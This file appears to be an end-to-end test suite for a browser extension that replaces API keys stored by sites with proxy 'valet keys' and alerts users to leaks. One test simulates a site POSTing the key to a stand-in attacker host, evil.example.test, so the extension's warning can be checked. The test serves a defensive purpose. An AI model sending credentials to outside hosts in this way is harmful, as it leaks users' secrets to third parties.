import type { Page } from 'puppeteer'
import { describe, expect, it } from 'vitest'
import { preApprovePermission, takeBackPermission } from '../support/driving/permission.ts'
import { press, says } from '../support/driving/screens.ts'
import { createTestKey } from '../support/test-keys.ts'
import { findings } from './axe.ts'
import { APP, useWorld } from './world.ts'

/** In no vault, so that the sweep does not ask for it. */
const KEPT = createTestKey('openai', 'kept by the site')

describe('what the popup says of a site that is on', () => {
  const world = useWorld('site')
  const popupOf = (origin: string) => world.window(`popup.html?site=${encodeURIComponent(origin)}`)

  it('offers to put valet keys where the site still keeps the person’s own', async () => {
    const page = await world.emptyPage()
    const settings = JSON.stringify({ apiKey: KEPT, theme: 'dark' })
    await page.evaluate((text) => {
      localStorage.setItem('settings', text)
    }, settings)
    const popup = await popupOf(APP)
    await says(popup, 'This site still keeps your OpenAI key itself.')
    expect(await findings(popup)).toEqual([])

    await press(popup, 'button', 'Put the valet key there')
    await says(popup, 'The valet key is in place.')

    const kept = await page.evaluate(() => localStorage.getItem('settings'))
    const valetKey = await world.driver.valetKey(APP, 'openai')
    expect(kept).toBe(JSON.stringify({ apiKey: valetKey, theme: 'dark' }))
    expect(await popup.$eval('a[href*="openai.com"]', (link) => link.textContent)).toContain(
      'OpenAI',
    )
    await popup.close()
  })

  it('tells once where the site sends its valet key besides the provider', async () => {
    const page = await world.emptyPage()
    const valetKey = await world.driver.valetKey(APP, 'openai')
    await page.evaluate(async (key) => {
      const body = JSON.stringify({ provider: 'openai', key, question: 'Hi' })
      await fetch('https://evil.example.test/api/chat', { method: 'POST', body, mode: 'no-cors' })
    }, valetKey)
    const popup = await popupOf(APP)
    await says(popup, 'evil.example.test, which is not the provider')
    expect(world.fakes.requests).toEqual([])

    await press(popup, 'button', 'Got it')
    await expect
      .poll(() => popup.evaluate(() => document.body.innerText))
      .not.toContain('evil.example.test')
    await popup.close()
  })

  it('knows when the permission was taken back in the browser’s settings, and when it is there again', async () => {
    const { browser, extensionId } = world.driver
    const hasShim = (page: Page) => page.evaluate(() => Symbol.for('valetkey.shim') in globalThis)
    const before = await world.emptyPage()
    expect(await hasShim(before)).toBe(true)

    await takeBackPermission(browser, extensionId, APP)
    const popup = await popupOf(APP)
    await says(popup, 'The browser’s settings keep ValetKey off this site.')
    expect(await findings(popup)).toEqual([])
    const after = await world.emptyPage()
    expect(await hasShim(after)).toBe(false)

    await preApprovePermission(browser, extensionId, APP)
    await expect.poll(async () => hasShim(await world.emptyPage()), { timeout: 10_000 }).toBe(true)
    await popup.close()
  })
})
